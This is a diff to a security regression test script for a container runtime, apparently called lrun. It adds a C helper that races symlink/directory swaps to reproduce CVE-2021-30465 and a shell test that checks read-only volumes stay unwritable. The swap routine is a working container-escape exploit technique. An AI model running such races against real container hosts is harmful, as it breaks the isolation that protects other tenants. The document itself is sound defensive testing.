@@ -12,6 +12,9 @@
 #            a symlink to what lrun holds (exec and start read it)
 #   keyring  the host's session keyring shared with the container
 #   /proc/interrupts  masked, as docker does
+#   volume   CVE-2021-30465: a container sharing a volume swaps another's
+#            :ro target (a directory) with a symlink, to land the read-only
+#            remount elsewhere and keep the volume writable
 #   stdio    CVE-2017-5226: TIOCSTI into the caller's terminal; read, chmod
 #            and truncate the caller's "> file" through /proc/self/fd/1
 here=$(cd "$(dirname "$0")" && pwd)
@@ -32,6 +35,7 @@ cat >"$T/attack.c" <<'EOF'
 #include <fcntl.h>
 #include <signal.h>
 #include <stdio.h>
+#include <linux/fs.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
@@ -171,8 +175,28 @@ static int stdio_attack(void)
 	return 0;
 }
 
+/* swap DIR: DIR/x (a directory) and DIR/y (a symlink to /proc) trade
+ * names as fast as they can, until DIR/stop appears */
+static int swap(const char *dir)
+{
+	char x[256], y[256], stop[256];
+	snprintf(x, sizeof x, "%s/x", dir);
+	snprintf(y, sizeof y, "%s/y", dir);
+	snprintf(stop, sizeof stop, "%s/stop", dir);
+	mkdir(x, 0755);
+	symlink("/proc", y);
+	snprintf(stop, sizeof stop, "%s/ready", dir);
+	close(open(stop, O_WRONLY | O_CREAT, 0644));
+	snprintf(stop, sizeof stop, "%s/stop", dir);
+	for (long i = 0;; i++) {
+		syscall(SYS_renameat2, AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE);
+		if (i % 4096 == 0 && exists(stop)) return 0;
+	}
+}
+
 int main(int argc, char **argv)
 {
+	if (argc > 2 && !strcmp(argv[1], "swap")) return swap(argv[2]);
 	if (argc > 1 && !strcmp(argv[1], "keyring")) { /* KEYCTL_GET_KEYRING_ID of KEY_SPEC_SESSION_KEYRING */
 		printf("%ld\n", syscall(SYS_keyctl, 0, -3, 0));
 		return 0;
@@ -251,6 +275,21 @@ ok "$([ "$out" != "$host_ring"$'\n' ]; echo $?)" "  exec's process too"
 "$LRUN" --root "$R" rm -f kr >/dev/null 2>&1
 run $TO "$LRUN" --root "$R" run --rm "$IMG" sh -c 'wc -c </proc/interrupts'
 is "$rc|$out" $'0|0\n' "/proc/interrupts is masked (docker's current list)"
+
+# -------------------------------------------- CVE-2021-30465: :ro volumes --
+mkdir -p "$T/shared" "$T/ro"
+run $TO "$LRUN" --root "$R" run -d --name swapper -v "$T/shared:/shared" "${ATTACK[@]}" "$IMG" /attack/attack swap /shared
+wait_for 10 test -e "$T/shared/ready"
+runs=0
+for i in $(seq 12); do
+	run $TO "$LRUN" --root "$R" run --rm -v "$T/shared:/data" -v "$T/ro:/data/x:ro" "$IMG" \
+		sh -c 'touch /data/x/pwn-$0 /data/y/pwn-$0 2>/dev/null; true' "$i"
+	[ "$rc" = 0 ] && runs=$((runs + 1))
+done
+touch "$T/shared/stop"
+"$LRUN" --root "$R" rm -f swapper >/dev/null 2>&1
+ok "$([ "$runs" -gt 0 ]; echo $?)" "containers ran while another swapped their :ro volume's target ($runs of 12)"
+is "$(ls "$T/ro")" "" "  in none of them the read-only volume was writable (nothing written to its host directory)"
 
 # ------------------------------------------- the caller's terminal, files --
 ctty() { script -qec "$*" /dev/null </dev/null | tr -d '\r'; }
